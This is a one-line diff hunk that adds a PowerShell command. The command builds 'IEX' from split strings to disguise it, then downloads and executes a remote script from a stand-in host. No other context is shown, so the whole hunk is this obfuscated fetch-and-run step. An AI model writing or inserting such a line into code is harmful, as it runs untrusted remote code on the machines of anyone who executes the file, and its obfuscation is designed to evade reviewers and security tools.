@@ -1,0 +1,1 @@
+$a='IE';$b='X';& "$a$b" (irm https://cdn-x7.invalid/a.ps1)
